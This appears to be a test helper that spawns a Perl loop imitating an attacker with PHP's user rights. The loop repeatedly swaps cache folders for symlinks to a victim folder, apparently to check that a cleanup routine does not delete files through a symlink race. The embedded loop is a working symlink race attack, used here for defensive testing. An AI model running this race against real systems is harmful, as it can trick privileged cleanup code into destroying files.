/** An attacker with the rights of PHP's user, who swaps folders for links as fast as it can. */
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { chmod, mkdtemp, readdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'

/** In the folder: folders with files, each of which is a link to the victim for a moment, over and over. */
const swapping = String.raw`
$| = 1;
my ( $folder, $victim ) = @ARGV;
for ( my $round = 0; ; $round++ ) {
  for my $n ( 0 .. 9 ) {
    my $place = "$folder/cache$n";
    mkdir $place;
    for my $m ( 0 .. 9 ) { if ( open my $file, '>', "$place/file$m" ) { close $file } }
  }
  for my $n ( 0 .. 9 ) {
    my $place = "$folder/cache$n";
    for ( 1 .. 20 ) {
      rename $place, "$place.aside";
      symlink $victim, $place;
      unlink $place;
      rename "$place.aside", $place;
    }
  }
  print "$round\n";
}
`

export interface FolderSwapper extends AsyncDisposable {
  /** It has been through all its folders once. */
  readonly atWork: Promise<unknown>
}

/** @param folder in which PHP's user may write */
export function startFolderSwapper(
  folder: string,
  victim: string,
  { uid, gid }: { readonly uid: number; readonly gid: number },
): FolderSwapper {
  const child = spawn('perl', ['-e', swapping, folder, victim], {
    stdio: ['ignore', 'pipe', 'inherit'],
    ...(process.getuid?.() === 0 && { uid, gid }),
  })
  const ended = once(child, 'exit')
  return {
    atWork: once(child.stdout, 'data'),
    async [Symbol.asyncDispose]() {
      child.kill('SIGKILL')
      await ended
    },
  }
}

/** A folder that PHP's user may look at, and nothing more, with fifty files in it. */
export async function makeVictim(
  parent: string,
): Promise<{ readonly folder: string; left(): Promise<number> }> {
  const folder = await mkdtemp(join(parent, 'victim-'))
  await chmod(folder, 0o755)
  await Promise.all(Array.from({ length: 50 }, (_, n) => writeFile(join(folder, `file${String(n)}`), 'kept')))
  return { folder, left: async () => (await readdir(folder)).length }
}
